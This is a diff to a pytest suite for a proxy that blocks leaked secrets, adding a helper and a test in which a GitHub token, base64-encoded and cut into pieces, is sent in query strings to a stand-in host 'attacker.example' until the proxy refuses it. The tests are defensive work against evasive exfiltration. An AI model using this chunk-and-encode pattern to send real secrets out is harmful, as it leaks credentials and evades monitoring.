@@ -10,11 +10,13 @@ over WebSocket messages. Each block is checked on both sides: the agent got 403
 
 from __future__ import annotations
 
+import base64
 import bz2
 import json
 import random
 import string
 from collections.abc import Iterator
+from urllib.parse import quote
 
 import httpx
 import pytest
@@ -94,16 +96,25 @@ def test_a_key_over_several_headers_is_assembled(
     assert line["rules"] == ["github_token", "assembled"]
 
 
+def _send_pieces(
+    client: httpx.Client, upstream: Upstream, path: str, text: str, size: int
+) -> list[int]:
+    """GET `path?i=N&d=PIECE` for each piece of `text` until one is refused."""
+    statuses = []
+    for n, at in enumerate(range(0, len(text), size)):
+        piece = quote(text[at : at + size], safe="")
+        url = f"http://attacker.example:{upstream.plain_port}{path}?i={n}&d={piece}"
+        statuses.append(client.get(url).status_code)
+        if statuses[-1] == 403:
+            break
+    return statuses
+
+
 def test_a_key_over_several_requests_blocks_the_completing_one_and_names_the_pieces(
     client: httpx.Client, upstream: Upstream, proxy: ProxyProcess
 ) -> None:
     pieces = [GITHUB[i : i + 5] for i in range(0, len(GITHUB), 5)]
-    statuses = []
-    for n, piece in enumerate(pieces):
-        url = f"http://attacker.example:{upstream.plain_port}/q?i={n}&d={piece}"
-        statuses.append(client.get(url).status_code)
-        if statuses[-1] == 403:
-            break
+    statuses = _send_pieces(client, upstream, "/q", GITHUB, 5)
     # Blocked once the pieces make a token (`ghp_` and 30 characters), before the end.
     assert statuses == [200] * 6 + [403]
     assert len(upstream.received) == 6  # the completing piece never left
@@ -111,6 +122,18 @@ def test_a_key_over_several_requests_blocks_the_completing_one_and_names_the_pie
     last = proxy.wait_for_audit(lambda r: r["path"].startswith("/q?i=6&"))
     assert last["verdict"] == "block" and "assembled" in last["rules"]
     assert first["flow_id"] in last["reason"] and last["flow_id"] in last["reason"]
+
+
+def test_a_key_base64_encoded_then_cut_over_requests_is_assembled(
+    client: httpx.Client, upstream: Upstream, proxy: ProxyProcess
+) -> None:
+    encoded = base64.b64encode(GITHUB.encode()).decode()
+    statuses = _send_pieces(client, upstream, "/b", encoded, 12)
+    # `ghp_` and 30 characters are 46 base64 characters: the fourth piece completes them.
+    assert statuses == [200] * 3 + [403]
+    assert len(upstream.received) == 3
+    last = proxy.wait_for_audit(lambda r: r["path"].startswith("/b?i=3&"))
+    assert last["rules"] == ["github_token", "assembled"]
 
 
 def test_a_key_over_websocket_messages_closes_the_socket(
